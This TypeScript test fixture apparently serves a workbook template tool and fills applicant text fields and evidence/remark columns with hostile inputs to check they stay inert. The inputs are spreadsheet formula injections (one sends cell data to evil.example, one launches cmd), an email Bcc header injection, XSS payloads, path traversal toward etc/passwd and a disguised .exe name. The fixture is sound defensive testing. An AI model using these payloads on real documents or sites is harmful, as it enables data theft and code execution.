import type { Language } from '../../src/core/guide/language';
import { COVER_FIELDS } from '../../src/core/template/coverFields';
import type { WorkbookDescription } from '../../src/core/template/description';
import { ROW_COLUMNS } from '../../src/core/template/rowFields';
import { answeredBook, coverEdit, edited, readingOf } from '../review/caseBook';

/** Texts that would do harm where they were taken for more than text. */
export const HOSTILE = [
  '=HYPERLINK("http://evil.example/"&A1,"x")',
  "+cmd|' /C calc'!A1",
  '@SUM(1+1)*cmd',
  'x\nBcc: evil@evil.example\n\n<b>body</b>',
  '<img src=x onerror="window.top.pwned=1;window.pwned=1">',
  '</textarea><script>window.pwned=1</script>',
  '../../..\\etc:passwd?*|"<>[]',
  '\u202eslxs.exe\u200b',
  '=?UTF-8?B?QmNjOiBldmls?=',
  '{device}{count}{value}$&$1',
  'javascript:alert(1)//http://evil.example',
] as const;

const hostile = (index: number): string => HOSTILE[index % HOSTILE.length] ?? '';

/** A case in which every text that a person types is hostile; choices and dates stay as they were. */
export function hostileBook(language: Language = 'ja'): WorkbookDescription {
  const book = answeredBook(language);
  const texts = COVER_FIELDS.filter(({ kind, role }) => role === 'applicant' && /^(?:text|mail)$/.test(kind));
  const columns = ROW_COLUMNS.filter(({ field }) => field === 'evidence' || field === 'remark');
  const rows = readingOf(book).rows.flatMap(({ sheet, cells }, index) =>
    columns.map(({ field }, column) => ({
      place: { sheet, cell: cells[field] },
      value: hostile(index + column),
    })),
  );
  const cover = texts.map(({ field }, index) => coverEdit(book, field, hostile(index)));
  return edited(book, [...rows, ...cover]);
}
